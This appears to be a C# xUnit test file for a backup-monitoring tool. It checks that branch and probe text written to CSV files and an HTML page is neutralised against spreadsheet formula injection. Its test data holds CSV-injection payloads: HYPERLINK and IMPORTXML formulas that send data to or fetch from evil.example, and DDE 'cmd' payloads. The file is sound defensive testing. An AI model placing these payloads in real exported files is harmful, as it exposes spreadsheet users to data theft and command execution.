using System.Net;
using System.Text;
using MonitoramentoBKP.Collector.Sheets;
using MonitoramentoBKP.LocalHost.LocalSheet;
using MonitoramentoBKP.LocalHost.Tests.Support;

namespace MonitoramentoBKP.LocalHost.Tests;

/// <summary>Text from branches and probes never reaches a spreadsheet program as a formula, and still reads as it was written.</summary>
public sealed class LocalSheetCsvInjectionTests : IDisposable
{
    /// <summary>One text for each start OWASP lists: '=', '+', '-', '@', tab, carriage return.</summary>
    public static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1;\"Clique aqui\")",
        "=IMPORTXML(\"http://evil.example/x\", \"//a\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    private readonly TempFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    public static TheoryData<string> Languages => new() { "pt", "en" };

    private static SheetLanguage LanguageOf(string code) => SheetLanguage.From(code);

    private string Read(string name) => Encoding.UTF8.GetString(File.ReadAllBytes(_folder.File(name))).TrimStart('\uFEFF');

    /// <summary>Status rows whose branch, name, reason and file are each formula.</summary>
    private static SheetTab Status(SheetLanguage language)
    {
        var template = SampleSheet.Status(language).Rows[0];
        return SampleSheet.Status(language) with
        {
            Rows = [.. Formulas.Select(f => (IReadOnlyList<SheetCell>)[.. template.Select((cell, i) => i is 0 or 1 or 5 or 7 ? SheetCell.Of(f) : cell)])],
        };
    }

    /// <summary>Alert rows whose id, branch, name and reason are each formula.</summary>
    private static SheetTab Alerts(SheetLanguage language, int from, int count)
    {
        var template = SampleSheet.Opened(language, "x").Rows[0];
        return SampleSheet.Opened(language, "x") with
        {
            Rows = [.. Formulas.Skip(from).Take(count).Select(f => (IReadOnlyList<SheetCell>)[.. template.Select((cell, i) => i is 0 or 2 or 3 or 8 ? SheetCell.Of(f) : cell)])],
        };
    }

    private static SheetTab History(SheetLanguage language) => SampleSheet.History(language) with
    {
        Rows = [.. Formulas.Select(f => (IReadOnlyList<SheetCell>)[SheetCell.Of(f), SheetCell.Of(f), SheetCell.Of(f), .. SampleSheet.Days.Select(SheetCell.Of)])],
    };

    private async Task<LocalSheetWriter> WriteAllAsync(SheetLanguage language)
    {
        var sheet = new LocalSheetWriter(_folder.Path);
        await sheet.InitAsync(SampleSheet.Layout(language), language, default);
        await sheet.RewriteAsync(Status(language), language, default);
        await sheet.RewriteAsync(History(language), language, default);

        // The first rows go through the whole file's rewrite, the later ones through an append to it.
        await sheet.AppendAlertsAsync(Alerts(language, 0, 3), language, default);
        await sheet.AppendAlertsAsync(Alerts(language, 3, Formulas.Length - 3), language, default);
        return sheet;
    }

    [Theory]
    [MemberData(nameof(Languages))]
    public async Task No_cell_of_any_csv_file_begins_with_a_character_that_starts_a_formula(string code)
    {
        var language = LanguageOf(code);
        await WriteAllAsync(language);

        var files = new[] { "status.csv", "alertas.csv", "historico.csv" }.ToDictionary(f => f, f => Rfc4180.Parse(Read(f), language.CsvSeparator));

        foreach (var (file, records) in files)
        {
            Assert.Equal(Formulas.Length + 1, records.Count);
            for (var row = 0; row < records.Count; row++)
            {
                for (var column = 0; column < records[row].Count; column++)
                {
                    var cell = records[row][column];
                    Assert.False(cell.Length > 0 && FormulaStarts.Contains(cell[0]), $"{file}, line {row + 1}, cell {column + 1} begins with a formula: {cell}");
                }
            }

            // Each formula is there, as text behind one quote.
            Assert.All(Formulas, f => Assert.Contains(records.Skip(1), r => r.Contains("'" + f)));
        }
    }

    [Theory]
    [MemberData(nameof(Languages))]
    public async Task A_neutralized_cell_is_also_quoted_so_its_separators_and_quotes_cannot_start_a_new_cell(string code)
    {
        var language = LanguageOf(code);
        await WriteAllAsync(language);

        var status = Read("status.csv");

        Assert.Contains(language.CsvSeparator + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Clique aqui\"\")\"" + language.CsvSeparator, status, StringComparison.Ordinal);
        Assert.Contains("\r\n\"'+cmd|' /C calc'!A0\"" + language.CsvSeparator, status, StringComparison.Ordinal);
        Assert.Contains("\r\n\"'\t=1+1\"" + language.CsvSeparator, status, StringComparison.Ordinal);
        Assert.Contains("\r\n\"'\r=1+1\"" + language.CsvSeparator, status, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_page_shows_the_text_as_written_without_the_quote_also_after_a_restart()
    {
        var language = SheetLanguage.Portuguese;
        var first = await WriteAllAsync(language);

        var restarted = new LocalSheetWriter(_folder.Path);

        foreach (var snapshot in new[] { first.Snapshot(), restarted.Snapshot() })
        {
            Assert.Equal(Formulas, snapshot.Table(SheetTab.Status).Rows.Select(r => r[1].Text));
            Assert.Equal(Formulas, snapshot.Table(SheetTab.Status).Rows.Select(r => r[7].Text));
            Assert.Equal(Formulas, snapshot.Table(SheetTab.Alerts).Rows.Select(r => r[8].Text));
            Assert.Equal(Formulas, snapshot.Table(SheetTab.History).Rows.Select(r => r[0].Text));
            var html = LocalSheetPage.Render(snapshot, DateTimeOffset.UnixEpoch);
            Assert.Contains("<td>" + WebUtility.HtmlEncode("+cmd|' /C calc'!A0") + "</td>", html, StringComparison.Ordinal);
            Assert.Contains(WebUtility.HtmlEncode(Formulas[0]), html, StringComparison.Ordinal);
            Assert.DoesNotContain(WebUtility.HtmlEncode("'="), html, StringComparison.Ordinal);
        }

        Assert.Equal(Formulas.Order(StringComparer.Ordinal), (await restarted.AlertIdsAsync(default)).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task Text_that_looks_like_a_negative_number_is_text_and_text_already_behind_a_quote_reads_back_unchanged()
    {
        string[] texts = ["-5", "'=1+1", "''-1", "'abc", "'", "–", "a=b", " =1+1", ""];
        var status = SampleSheet.Status(SheetLanguage.Portuguese);
        var template = status.Rows[0];
        var sheet = new LocalSheetWriter(_folder.Path);

        await sheet.RewriteAsync(status with { Rows = [.. texts.Select(t => (IReadOnlyList<SheetCell>)[.. template.Select((cell, i) => i == 1 ? SheetCell.Of(t) : cell)])] }, SheetLanguage.Portuguese, default);

        var written = Rfc4180.Parse(Read("status.csv"), ';').Skip(1).Select(r => r[1]);
        Assert.Equal(["'-5", "''=1+1", "'''-1", "'abc", "'", "–", "a=b", " =1+1", ""], written);
        Assert.Equal(texts, new LocalSheetWriter(_folder.Path).Snapshot().Table(SheetTab.Status).Rows.Select(r => r[1].Text));
    }
}
